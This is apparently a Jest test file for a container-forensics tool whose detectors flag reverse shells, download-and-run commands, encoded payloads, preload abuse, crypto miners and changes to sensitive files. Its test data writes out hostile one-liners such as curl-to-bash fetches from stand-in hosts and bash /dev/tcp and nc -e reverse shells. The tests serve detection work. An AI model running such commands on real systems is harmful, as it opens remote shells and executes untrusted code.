import { Finding, Process, Severity } from '@cubemig/plugin-cubemig-common';
import { collectFacts, detectors, examine, Facts } from '..';
import {
  fixtureNames,
  makeImage,
  openChanged,
  openFixture,
} from '../../__testUtils__';
import { Checkpoint } from '../../report';
import { SecretMask } from '../../secrets';
import { findFindings } from '../findFindings';
import { listCommands } from '../Facts';

async function factsOf(name: (typeof fixtureNames)[number]): Promise<Facts> {
  return collectFacts(await openFixture(name), { memory: false });
}

function find(facts: Facts, id: string): Finding[] {
  return findFindings(facts, SecretMask.of([])).filter(f => f.id === id);
}

/** `severity: detail` of every piece of evidence. */
function tell(facts: Facts, id: string): string[] {
  return find(facts, id).flatMap(({ severity, evidence }) =>
    evidence.map(({ detail }) => `${severity}: ${detail}`),
  );
}

/** The clean shop with another process in it. */
async function withProcess(
  change: Partial<Process>,
  environment: Record<string, string> = {},
): Promise<Facts> {
  const facts = await factsOf('e0-shop-clean');
  const process: Process = {
    ...facts.report.processes[0],
    pid: 50,
    ppid: 1,
    ...change,
  };
  facts.report.processes.push(process);
  facts.commands.push(
    ...listCommands(50, process.command, process.argv.join(' ')),
  );
  facts.environments.set(50, environment);
  return facts;
}

function withCommand(...argv: string[]): Promise<Facts> {
  return withProcess({ command: argv[0], argv });
}

/** The clean shop with another file written into it. */
async function withFile(
  path: string,
  content: string | Buffer,
  mode = '0644',
): Promise<Facts> {
  const facts = await factsOf('e0-shop-clean');
  const head = Buffer.from(content);
  facts.report.rootfs_changes!.push({
    path,
    change: 'written',
    type: 'file',
    mode,
    uid: 0,
    gid: 0,
    size: head.length,
  });
  facts.heads.set(path, head);
  return facts;
}

const clean = fixtureNames.filter(name => name !== 'e-attacked');
const severityOf = (findings: Finding[]) => findings.map(f => f.severity);

describe('detectors', () => {
  it.each(clean)('find nothing above low in %s', async name => {
    const forensics = await examine(await openFixture(name));
    const allowed: Severity[] = ['info', 'low'];
    expect(
      forensics.findings.filter(f => !allowed.includes(f.severity)),
    ).toEqual([]);
    expect(forensics).toMatchObject({
      verdict: 'clean',
      reasons: ['no finding above low'],
      warnings: [],
    });
  });

  it('convict the attacked shop', async () => {
    const forensics = await examine(await openFixture('e-attacked'));
    expect(forensics).toMatchObject({
      verdict: 'compromised',
      score: 100,
      pod: 'attacked',
      container: 'app',
    });
    expect(forensics.findings[0].severity).toBe('critical');
    expect(JSON.stringify(forensics)).not.toContain('hunter2');
  });

  it('have each its own name and a technique', () => {
    const ids = detectors.map(({ id }) => id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const { id, technique, remedy } of detectors) {
      expect(id).toMatch(/^[a-z-]+$/);
      expect(technique.id).toMatch(/^T\d{4}(\.\d{3})?$/);
      expect(remedy).not.toBe('');
    }
  });

  it.each([
    ['shell-with-socket', 2],
    ['shell-below-server', 3],
    ['interpreter-socket', 1],
    ['download-and-run', 3],
    ['encoded-command', 1],
    ['deleted-executable', 1],
    ['executable-in-temporary-folder', 1],
    ['kernel-thread-name', 1],
    ['sensitive-file-changed', 1],
    ['new-program', 1],
    ['removed-traces', 4],
    ['secret-in-environment', 1],
    ['service-account-token', 1],
  ])('see %s in the attacked shop', async (id, pieces) => {
    const findings = find(await factsOf('e-attacked'), id);
    expect(findings.flatMap(f => f.evidence)).toHaveLength(pieces);
  });

  it.each(
    detectors
      .map(({ id }) => id)
      .filter(id => !/^(secret-in-env|service-acc)/.test(id)),
  )('see no %s in the clean shop', async id => {
    expect(find(await factsOf('e0-shop-clean'), id)).toEqual([]);
  });
});

describe('shell-with-socket', () => {
  it('follows pipes and FIFOs to the socket', async () => {
    expect(tell(await factsOf('e-attacked'), 'shell-with-socket')).toEqual([
      'critical: the input of sh (7) comes from 127.0.0.1:37952 -> 127.0.0.1:4444 ESTABLISHED through cat (6), nc (8)',
      'critical: the output of sh (7) goes to 127.0.0.1:37952 -> 127.0.0.1:4444 ESTABLISHED through nc (8)',
    ]);
  });

  it('sees a socket that is the standard input itself', async () => {
    const facts = await factsOf('d-python-tcp');
    facts.report.processes[0].argv = ['bash', '-i'];
    const socket = facts.report.descriptors.find(
      d => d.target === `socket:${facts.report.connections[1].inode}`,
    )!;
    facts.report.descriptors[0].target = socket.target;
    expect(tell(facts, 'shell-with-socket')).toEqual([
      'critical: the input of python3 (1) comes from 10.78.1.16:8000 -> 10.77.0.1:47236 ESTABLISHED',
    ]);
  });

  it('follows unix sockets', async () => {
    const facts = await factsOf('d-python-tcp');
    facts.report.processes.push({
      ...facts.report.processes[0],
      pid: 9,
      argv: ['bash', '-i'],
    });
    const end = (
      pid: number,
      fd: number,
      inode: number,
      peer_inode: number,
    ) => {
      const family = 'UNIX';
      facts.report.connections.push({
        pid,
        fd,
        family,
        protocol: 'STREAM',
        state: 'ESTABLISHED',
        inode,
        peer_inode,
      });
      facts.report.descriptors.push({
        pid,
        fd,
        type: 'UNIXSK',
        target: `socket:${inode}`,
        deleted: false,
      });
    };
    end(9, 0, 70, 71);
    end(1, 8, 71, 70);
    expect(tell(facts, 'shell-with-socket')).toEqual([
      'low: the input of python3 (9) comes from 10.78.1.16:8000 -> 10.77.0.1:47236 ESTABLISHED through python3 (1)',
    ]);
  });

  it('lets a server read what a command prints', async () => {
    const facts = await factsOf('d-python-tcp');
    facts.report.processes.push({
      ...facts.report.processes[0],
      pid: 9,
      argv: ['sh', '-c', 'date'],
    });
    facts.report.descriptors.push(
      {
        pid: 9,
        fd: 1,
        type: 'PIPE',
        target: 'pipe:7',
        access: 'write',
        deleted: false,
      },
      {
        pid: 1,
        fd: 9,
        type: 'PIPE',
        target: 'pipe:7',
        access: 'read',
        deleted: false,
      },
    );
    expect(severityOf(find(facts, 'shell-with-socket'))).toEqual(['low']);
  });
});

describe('encoded-command', () => {
  const encode = (text: string) => Buffer.from(text).toString('base64');

  it('decodes what is encoded twice', async () => {
    const inner = encode('wget http://evil.invalid/a -O- | sh');
    const facts = await withCommand(
      'sh',
      '-c',
      `echo ${encode(`echo ${inner} | base64 -d`)}`,
    );
    expect(tell(facts, 'encoded-command')[1]).toMatch(
      /decodes to: wget http:\/\/evil\.invalid\/a -O- \| sh$/,
    );
    expect(severityOf(find(facts, 'download-and-run'))).toEqual(['high']);
  });

  it('does not show an encoded text that is no command', async () => {
    const facts = await withCommand('app', encode('admin:very secret words'));
    const [told] = tell(facts, 'encoded-command');
    expect(told).toMatch(/^low: .* decodes to a text of 23 characters$/);
  });

  it.each([
    '/usr/local/lib/python3/site-packages/example',
    'f2ca1bb6c7e907d06dafe4687e579fce76b37e4e93b7605022da52e6ccc26fd2',
    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9',
    '--configuration-directory=/etc/application',
  ])('leaves %s alone', async argument => {
    expect(find(await withCommand('app', argument), 'encoded-command')).toEqual(
      [],
    );
  });
});

describe('download-and-run', () => {
  it.each([
    'curl -s http://x.invalid/i.sh | bash',
    'wget -qO- http://x.invalid | sudo python3 -',
    'bash -c "$(curl -fsSL http://x.invalid)"',
    'bash <(curl http://x.invalid)',
    'wget http://x.invalid/x -O /tmp/x; chmod +x /tmp/x; /tmp/x',
    `python3 -c 'exec(urllib.request.urlopen("http://x.invalid").read())'`,
  ])('sees %s', async command => {
    const facts = await withCommand('sh', '-c', command);
    expect(severityOf(find(facts, 'download-and-run'))).toEqual(['high']);
  });

  it.each([
    'curl -f http://127.0.0.1:8080/health',
    'wget --spider http://example.invalid',
    'curl http://example.invalid | jq .name',
    'curl -f http://db/ready || exit 1; sh /entrypoint.sh',
  ])('leaves %s alone', async command => {
    const facts = await withCommand('sh', '-c', command);
    expect(find(facts, 'download-and-run')).toEqual([]);
  });
});

describe('interpreter-socket', () => {
  it.each([
    `python3 -c 'import socket,os,pty;s=socket.socket()'`,
    `perl -e 'use Socket;$i="10.0.0.1"'`,
    `php -r '$s=fsockopen("10.0.0.1",4242);'`,
    `ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",4242)'`,
    'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
    'nc -e /bin/sh 10.0.0.1 4242',
    'socat TCP:10.0.0.1:4242 EXEC:sh',
  ])('sees %s', async command => {
    const facts = await withCommand('sh', '-c', command);
    expect(severityOf(find(facts, 'interpreter-socket'))).toEqual(['high']);
  });

  it.each([`python3 -c 'print(1)'`, 'nc -z db 5432', 'python3 -m http.server'])(
    'leaves %s alone',
    async command => {
      const facts = await withCommand('sh', '-c', command);
      expect(find(facts, 'interpreter-socket')).toEqual([]);
    },
  );
});

describe('shell-below-server', () => {
  it('rates a shell below redis higher than below any listener', async () => {
    const facts = await factsOf('b-redis');
    facts.report.processes.push({
      ...facts.report.processes[0],
      pid: 9,
      ppid: 1,
      command: 'sh',
      exe: '/bin/dash',
      argv: ['sh', '-c', 'id'],
    });
    expect(tell(facts, 'shell-below-server')).toEqual([
      'high: redis-server (1) has the shell sh (9) below it: sh -c id',
    ]);
  });
});

describe('deleted-executable', () => {
  it('sees a program that only exists in memory', async () => {
    const facts = await withProcess({ exe: '/memfd:x', exe_deleted: true });
    expect(severityOf(find(facts, 'deleted-executable'))).toEqual(['critical']);
  });
});

describe('a real checkpoint of a program in memory', () => {
  it('tells its name', async () => {
    const original = await openFixture('a-counter');
    const { exeFileId } = original.images.mm(1)!;
    const { findings } = await examine(
      new Checkpoint(
        await openChanged('a-counter', {
          'checkpoint/files.img': makeImage(0x56303138, [
            [
              'File',
              { type: 18, id: exeFileId, memfd: { id: exeFileId, inodeId: 5 } },
            ],
          ]),
          'checkpoint/memfd.img': makeImage(0x48453499, [
            ['MemfdInode', { name: Buffer.from('payload'), inodeId: 5 }],
          ]),
        }),
      ),
    );
    expect(findings[0]).toMatchObject({
      id: 'deleted-executable',
      severity: 'critical',
      evidence: [{ pid: 1, file: 'memfd:payload' }, { pid: 1544 }],
    });
  });
});

describe('kernel-thread-name', () => {
  it.each(['[kworker/0:1]', 'kthreadd', '.kworker', 'ksoftirqd/0'])(
    'sees %s',
    async name => {
      const facts = await withProcess({ command: 'x', argv: [name] });
      expect(find(facts, 'kernel-thread-name')).toHaveLength(1);
    },
  );

  it.each(['kubelet', 'migrate', 'watch', 'rcu'])(
    'leaves %s alone',
    async name => {
      const facts = await withProcess({ command: name, argv: [name] });
      expect(find(facts, 'kernel-thread-name')).toEqual([]);
    },
  );
});

describe('preload-variable', () => {
  it.each([
    ['LD_PRELOAD', '/tmp/.x.so', 'high'],
    ['LD_PRELOAD', '/usr/lib/libprocesshider.so', 'medium'],
    ['LD_PRELOAD', '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', 'info'],
    ['NODE_OPTIONS', '--require /dev/shm/x.js', 'high'],
  ])('rates %s=%s as %s', async (name, value, severity) => {
    const facts = await withProcess({}, { [name]: value });
    expect(severityOf(find(facts, 'preload-variable'))).toEqual([severity]);
  });

  it('leaves usual settings alone', async () => {
    const facts = await withProcess(
      {},
      { NODE_OPTIONS: '--max-old-space-size=512', LD_LIBRARY_PATH: '/opt/lib' },
    );
    expect(find(facts, 'preload-variable')).toEqual([]);
  });
});

describe('cryptocurrency-miner', () => {
  it('sees a command line', async () => {
    const facts = await withCommand(
      'app',
      '-o',
      'stratum+tcp://pool.invalid:3333',
    );
    expect(severityOf(find(facts, 'cryptocurrency-miner'))).toEqual([
      'critical',
    ]);
  });

  it('searches the memory of a real checkpoint', async () => {
    const original = await openFixture('a-counter');
    const file = 'checkpoint/pages-1.img';
    const pages = original.archive.read(file, 1e6);
    pages.write('xmrig 6.21 pool stratum+tcp://pool.invalid:3333', 5000);
    const checkpoint = new Checkpoint(
      await openChanged('a-counter', { [file]: pages }),
    );
    const { findings } = await examine(checkpoint);
    const [finding] = findings.filter(f => f.id === 'cryptocurrency-miner');
    expect(finding.severity).toBe('high');
    expect(finding.evidence[0]).toMatchObject({
      pid: 1,
      address: expect.stringMatching(/^0x[0-9a-f]+$/),
    });
  });
});

describe('sensitive-file-changed', () => {
  it.each([
    ['/etc/shadow', 'T1098'],
    ['/etc/sudoers.d/evil', 'T1548.003'],
    ['/var/spool/cron/crontabs/root', 'T1053.003'],
    ['/etc/cron.d/evil', 'T1053.003'],
    ['/root/.ssh/authorized_keys', 'T1098.004'],
    ['/etc/ld.so.preload', 'T1574.006'],
    ['/root/.bashrc', 'T1546.004'],
  ])('sees %s', async (path, technique) => {
    const [finding] = find(await withFile(path, 'x'), 'sensitive-file-changed');
    expect(finding).toMatchObject({
      severity: 'high',
      technique: { id: technique },
    });
  });

  it('names accounts that have the rights of root', async () => {
    const [finding] = find(
      await factsOf('e-attacked'),
      'sensitive-file-changed',
    );
    expect(finding.evidence[0].detail).toBe(
      "/etc/passwd was changed; has root's rights: eve",
    );
  });

  it.each(['/etc/hosts', '/etc/resolv.conf', '/app/passwd'])(
    'leaves %s alone',
    async path => {
      const facts = await withFile(path, 'x');
      expect(find(facts, 'sensitive-file-changed')).toEqual([]);
    },
  );
});

describe('setuid-file', () => {
  it('sees setuid and setgid', async () => {
    for (const mode of ['04755', '02755']) {
      const facts = await withFile('/usr/bin/x', 'x', mode);
      expect(severityOf(find(facts, 'setuid-file'))).toEqual(['high']);
    }
  });
});

describe('new-program', () => {
  it.each([
    ['/usr/bin/x', '\x7fELF', '0755', 'medium'],
    ['/tmp/x', '\x7fELF', '0755', 'high'],
    ['/opt/run.sh', '#!/bin/sh', '0755', 'medium'],
    ['/opt/notes', '#!/bin/sh', '0644', 'low'],
  ])('rates %s', async (path, content, mode, severity) => {
    const facts = await withFile(path, content, mode);
    expect(severityOf(find(facts, 'new-program'))).toEqual([severity]);
  });

  it('leaves data alone', async () => {
    expect(
      find(await withFile('/tmp/x', 'data', '0755'), 'new-program'),
    ).toEqual([]);
  });
});

describe('removed-traces', () => {
  it('sees many deletions', async () => {
    const facts = await factsOf('e0-shop-clean');
    for (let i = 0; i < 30; i++) {
      facts.report.rootfs_changes!.push({
        path: `/srv/${i}`,
        change: 'deleted',
      });
    }
    expect(severityOf(find(facts, 'removed-traces'))).toEqual(['medium']);
  });

  it('sees an emptied log', async () => {
    const facts = await withFile('/var/log/auth.log', '');
    expect(tell(facts, 'removed-traces')).toEqual([
      'medium: /var/log/auth.log was emptied',
    ]);
  });
});

describe('outside-connection', () => {
  it('tells private from public addresses', async () => {
    const facts = await factsOf('d-python-tcp');
    const connection = facts.report.connections[1];
    expect(find(facts, 'outside-connection')).toEqual([]);
    for (const address of ['203.0.113.7', '2001:db8::1', '::ffff:8.8.8.8']) {
      connection.remote = { address, port: 443 };
      expect(severityOf(find(facts, 'outside-connection'))).toEqual(['medium']);
    }
    for (const address of ['192.168.1.1', '172.31.0.1', 'fd00::1', '::1']) {
      connection.remote = { address, port: 443 };
      expect(find(facts, 'outside-connection')).toEqual([]);
    }
  });
});

describe('undeclared-listener', () => {
  it('compares with the ports that the pod declares', async () => {
    const facts = await factsOf('e-attacked');
    expect(find(facts, 'undeclared-listener')).toEqual([]);
    facts.report.connections[0].local!.port = 31337;
    expect(tell(facts, 'undeclared-listener')).toEqual([
      'medium: process 1 (python3) listens on TCP 0.0.0.0:31337',
    ]);
    facts.report.connections[0].local!.address = '127.0.0.1';
    expect(find(facts, 'undeclared-listener')).toEqual([]);
  });
});

describe('secret-in-environment', () => {
  it('names variables and never shows them', async () => {
    const [finding] = find(await factsOf('b-redis'), 'secret-in-environment');
    expect(finding.evidence.map(e => e.detail)).toEqual([
      'DB_PASSWORD, of the container',
      'API_TOKEN, of the container',
    ]);
  });
});

describe('hostile command lines', () => {
  it.each([
    'python -c ',
    'curl a | ',
    'perl -e Socket ',
    'nc -',
    '-a',
    'a.',
    '--a-password="',
    'eyJaaaaaaaaaaaaa.',
    'QUFBQUFBQUFBQUFBQUFBQQ=',
    'a://a:',
  ])('of endless %s take no endless time', async piece => {
    const facts = await withCommand('sh', piece.repeat(200_000));
    const started = Date.now();
    findFindings(facts, SecretMask.of([]));
    SecretMask.of([]).text(piece.repeat(200_000));
    expect(Date.now() - started).toBeLessThan(5_000);
  });
});

describe('what the container was allowed', () => {
  it.each([
    ['privileged-container', { privileged: true }, ['high']],
    [
      'added-capability',
      { capabilities: ['CAP_SYS_PTRACE', 'CAP_SYS_NICE', 'CAP_KILL'] },
      ['medium', 'low'],
    ],
    ['host-namespace', { host_namespaces: ['pid'] }, ['medium']],
    [
      'host-mount',
      {
        host_mounts: [
          {
            source: '/run/containerd/containerd.sock',
            destination: '/s',
            type: 'bind',
            read_only: true,
          },
          {
            source: '/etc',
            destination: '/host/etc',
            type: 'bind',
            read_only: false,
          },
          {
            source: '/data',
            destination: '/data',
            type: 'bind',
            read_only: true,
          },
        ],
      },
      ['critical', 'high', 'low'],
    ],
  ])('is judged by %s', async (id, security, severities) => {
    const facts = await factsOf('e0-shop-clean');
    Object.assign(facts.report.security, security);
    expect(severityOf(find(facts, id))).toEqual(severities);
  });

  it('is read from spec.dump', async () => {
    const original = await openFixture('a-counter');
    const spec = JSON.parse(original.archive.read('spec.dump', 1e6).toString());
    spec.process.capabilities.effective = ['CAP_SYS_ADMIN'];
    spec.linux.maskedPaths = [];
    spec.linux.namespaces = [{ type: 'mount' }];
    spec.mounts.push({
      destination: '/host',
      type: 'bind',
      source: '/',
      options: ['rbind', 'rw'],
    });
    const { findings } = await examine(
      new Checkpoint(
        await openChanged('a-counter', { 'spec.dump': JSON.stringify(spec) }),
      ),
    );
    expect(findings.map(f => `${f.severity} ${f.id}`)).toEqual(
      expect.arrayContaining([
        'high privileged-container',
        'high host-mount',
        'medium host-namespace',
      ]),
    );
  });
});
